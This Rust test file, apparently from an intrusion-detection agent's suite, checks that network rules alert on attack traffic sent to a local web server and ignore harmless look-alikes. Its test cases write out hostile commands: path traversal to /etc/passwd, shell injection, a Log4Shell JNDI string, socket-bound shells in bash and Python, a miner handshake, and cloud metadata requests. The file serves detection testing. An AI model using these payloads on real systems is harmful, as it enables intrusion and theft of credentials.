//! The built-in network rules against the traffic of real programs: curl, Python and bash on this host's own address, each with a quiet twin. A guest
//! does not have them: `network_rules.rs` is what runs there.

use std::{
    fs,
    net::{IpAddr, TcpStream, UdpSocket},
    path::Path,
    process::{Child, Command, Stdio},
    thread,
    time::Duration,
};

use serde_json::Value;

use crate::{
    act::Act,
    agent::Agent,
    error::{Context, Error, Result},
    http,
    place::{Place, copy_program, executable},
    scenario::{PROMPT, brief, network_fence, run_to_end},
    scenarios::Check,
    verdict::Verdict,
    world::{Need, World},
};

/// Debian's, not what a PATH of development tools has: that would be a script of bash.
const PYTHON: &str = "/usr/bin/python3";
/// What nobody may read in an alert.
const SECRET: &str = "s3cr3t-of-the-test";

pub fn checks() -> Vec<Check> {
    vec![Check::judged("network-rules-against-real-traffic", network).needs(&[Need::Host])]
}

/// Something to do over the network, and what looks alike and must not be noticed. `{url}`, `{ip}` and `{port}` are the server's; `{tmp}` and
/// `{bin}` hold a copy of curl.
struct Case {
    rule: &'static str,
    /// Who the alerts are by: one for each end that sees it.
    by: &'static [&'static str],
    event: &'static str,
    act: &'static str,
    twin: &'static str,
}

const CASES: &[Case] = &[
    Case {
        rule: "path-traversal",
        by: &["curl", "python3"],
        event: "http.request",
        act: "curl -s --path-as-is -H 'Authorization: Bearer s3cr3t-of-the-test' '{url}/x/../../etc/passwd?token=s3cr3t-of-the-test'",
        twin: "curl -s '{url}/x/../../etc/passwd?path=../up'",
    },
    Case {
        rule: "shell-injection",
        by: &["curl", "python3"],
        event: "http.request",
        act: "curl -s '{url}/?q=a%3Bcat%20/etc/passwd'",
        twin: "curl -s '{url}/?q=cats%3B+and+the+id+of+a+dog%3B+curl+hair'",
    },
    Case {
        rule: "template-injection",
        by: &["curl", "python3"],
        event: "http.request",
        act: "curl -s -g '{url}/?name={{7*7}}'",
        twin: "curl -s -g '{url}/?name={{user}}&sum=7*7'",
    },
    Case {
        rule: "log4shell",
        by: &["curl", "python3"],
        event: "http.request",
        act: "curl -s -A '${jndi:ldap://192.0.2.9/a}' '{url}/'",
        twin: "curl -s -A 'jndi:ldap browser' '{url}/'",
    },
    Case {
        rule: "shell-on-socket",
        by: &["bash"],
        event: "tcp.payload",
        act: r"exec 3<>/dev/tcp/{ip}/{port}; printf 'GET / HTTP/1.0\r\n\r\n' >&3; read -r line <&3",
        twin: "curl -s '{url}/' | while read -r line; do :; done",
    },
    Case {
        rule: "shell-on-socket",
        by: &["sh"],
        event: "tcp.payload",
        act: "exec {python} -c 'import os,socket; s=socket.create_connection((\"{ip}\",{port})); [os.dup2(s.fileno(),n) for n in (0,1,2)]; \
              os.execv(\"/bin/sh\",[\"sh\",\"-c\",\"echo GET / HTTP/1.0; echo; read line\"])'",
        twin: "{python} -c 'import subprocess; subprocess.run([\"/bin/sh\",\"-c\",\"echo; read line\"],stdin=subprocess.DEVNULL)'",
    },
    Case {
        rule: "connection-from-tmp",
        by: &["curl"],
        event: "network.established",
        act: "{tmp}/curl -s '{url}/'",
        twin: "{bin}/curl -s '{url}/'",
    },
    Case {
        rule: "miner-stratum",
        by: &["python3"],
        event: "tcp.payload",
        act: "{python} -c 'import socket; s=socket.create_connection((\"{ip}\",{port})); s.sendall(b\"{\\\"id\\\":1,\\\"method\\\":\\\"mining.subscribe\\\",\\\"params\\\":[]}\\n\")'",
        twin: "{python} -c 'import socket; s=socket.create_connection((\"{ip}\",{port})); s.sendall(b\"{\\\"id\\\":1,\\\"method\\\":\\\"subscribe\\\",\\\"params\\\":[]}\\n\")'",
    },
    Case {
        rule: "metadata-address",
        by: &["curl"],
        event: "network.open",
        act: "curl -s -m 1 http://169.254.169.254/latest/meta-data/",
        twin: "curl -s '{url}/latest/meta-data/'",
    },
    Case {
        rule: "metadata-request",
        by: &["curl"],
        event: "http.request",
        act: "curl -s -H 'Host: metadata.google.internal' '{url}/computeMetadata/v1/'",
        twin: "curl -s -H 'Host: metadata.example.org' '{url}/computeMetadata/v1/'",
    },
    Case {
        rule: "score.remote",
        by: &["python3"],
        event: "score",
        act: "for n in 1 2 3 4 5; do curl -s -A sqlmap/1.7 '{url}/'; done",
        twin: "for n in 1 2 3 4 5; do curl -s '{url}/'; done",
    },
    // The same address again: at the next multiple of its threshold.
    Case {
        rule: "score.remote",
        by: &["python3"],
        event: "score",
        act: "for n in $(seq 60); do echo \"url = {url}/nothing-$n\"; done | curl -s -K -",
        twin: "for n in $(seq 10); do echo \"url = {url}/nothing-$n\"; done | curl -s -K -",
    },
];

fn network(_: &World) -> Result<Verdict> {
    let missing = ["curl", "bash"]
        .into_iter()
        .find(|program| executable(program).is_err());
    if missing.is_some() || !Path::new(PYTHON).is_file() {
        return Ok(Verdict::NotApplicable(format!(
            "{} is not here",
            missing.unwrap_or(PYTHON)
        )));
    }
    let Some(ip) = own_address() else {
        return Ok(Verdict::NotApplicable("no address but loopback".into()));
    };
    let place = Place::new("network")?;
    for directory in [&place.tmp, &place.bin] {
        copy_program("curl", directory)?;
    }
    let agent = Agent::start(
        "production",
        "[network]\nenabled = true\n[score]\nhost_threshold = 1000000\nlineage_threshold = 1000000\nfold_window = \"1ms\"\n",
    )?;
    let server = Server::start(ip, &place)?;
    let problems: Vec<String> = CASES
        .iter()
        .filter_map(|case| {
            case.run(&agent, &server, &place)
                .err()
                .map(|e| format!("{}: {e}", case.rule))
        })
        .collect();
    drop(server);
    agent.stop()?;
    match problems.is_empty() {
        true => Ok(Verdict::Seen),
        false => Err(Error(problems.join("\n"))),
    }
}

impl Case {
    fn run(&self, agent: &Agent, server: &Server, place: &Place) -> Result<()> {
        let line = |text: &str| {
            let (ip, port) = (server.ip.to_string(), server.port.to_string());
            let text = text.replace("{url}", &format!("http://{ip}:{port}"));
            text.replace("{ip}", &ip)
                .replace("{port}", &port)
                .replace("{python}", PYTHON)
                .replace("{tmp}", &place.tmp.display().to_string())
                .replace("{bin}", &place.bin.display().to_string())
        };
        let before = told(agent)?.len();
        run_to_end(&Act::new("bash", &["-c", &line(self.twin)]))?;
        network_fence(agent)?;
        let twin: Vec<Value> = told(agent)?.into_iter().skip(before).collect();
        if !twin.is_empty() {
            return Err(Error(format!("the twin was noticed:\n{}", shown(&twin))));
        }
        run_to_end(&Act::new("bash", &["-c", &line(self.act)]))?;
        let wanted = self.by.len();
        agent
            .wait_until(&format!("{wanted} alerts of {}", self.rule), 2 * PROMPT, |agent| {
                Ok(told(agent)?.len() >= before + wanted)
            })
            .map_err(|e| {
                let found = told(agent).unwrap_or_default();
                Error(format!("{e}\nfound:\n{}", shown(&found[before.min(found.len())..])))
            })?;
        network_fence(agent)?;
        let found: Vec<Value> = told(agent)?.into_iter().skip(before).collect();
        self.check(&found, server)
    }

    fn check(&self, found: &[Value], server: &Server) -> Result<()> {
        let wrong = |why: &str| Err(Error(format!("{why}:\n{}", shown(found))));
        let mut by: Vec<&str> = found
            .iter()
            .filter_map(|alert| alert["process"]["name"].as_str())
            .collect();
        by.sort_unstable();
        if by != self.by {
            return wrong(&format!("want alerts of {:?}, got {by:?}", self.by));
        }
        for alert in found {
            if alert["rule"] != self.rule || alert["event"] != self.event {
                return wrong(&format!("want {} by {}", self.event, self.rule));
            }
            let text = alert.to_string();
            if text.contains(SECRET) {
                return Err(Error(format!("{} tells a secret", self.rule)));
            }
            let network = &alert["network"];
            let (end, direction) = match alert["process"]["name"].as_str() {
                Some("python3") if self.rule != "miner-stratum" => ("local", "incoming"),
                _ => ("peer", "outgoing"),
            };
            let server = match self.rule {
                "metadata-address" => "169.254.169.254:80".to_owned(),
                _ => format!("{}:{}", server.ip, server.port),
            };
            if network["direction"] != direction || network[end] != *server {
                return Err(Error(format!("want {direction} with {end} {server}, got {network}")));
            }
            if self.event == "http.request"
                && !alert["http"]["request"]
                    .as_str()
                    .is_some_and(|line| line.starts_with("GET "))
            {
                return Err(Error(format!("no request line in {}", alert["http"])));
            }
        }
        Ok(())
    }
}

/// Alerts of the network sensor, without those of the fence, which are this program's own.
fn told(agent: &Agent) -> Result<Vec<Value>> {
    agent.alerts_where(|alert| alert["sensor"] == "network" && alert["process"]["pid"] != std::process::id())
}

fn shown(alerts: &[Value]) -> String {
    let line = |alert: &Value| format!("  {} {}", brief(alert), alert["network"]);
    alerts.iter().map(line).collect::<Vec<_>>().join("\n")
}

/// The address that this host would use to reach others; nothing is sent.
pub fn own_address() -> Option<IpAddr> {
    let socket = UdpSocket::bind("0.0.0.0:0").ok()?;
    socket.connect("198.51.100.1:9").ok()?;
    let address = socket.local_addr().ok()?.ip();
    (!address.is_loopback() && !address.is_unspecified()).then_some(address)
}

/// Python's web server.
struct Server {
    child: Child,
    ip: IpAddr,
    port: u16,
}

impl Server {
    fn start(ip: IpAddr, place: &Place) -> Result<Server> {
        let port = http::free_port()?.port();
        fs::write(place.plain.join("index.html"), "<p>Hello</p>\n").context("index.html")?;
        let child = Command::new(PYTHON)
            .args(["-m", "http.server", &port.to_string(), "--bind", &ip.to_string()])
            .current_dir(&place.plain)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .context(PYTHON)?;
        let server = Server { child, ip, port };
        for _ in 0..200 {
            if TcpStream::connect((ip, port)).is_ok() {
                return Ok(server);
            }
            thread::sleep(Duration::from_millis(50));
        }
        Err(Error("Python's web server does not listen".into()))
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}
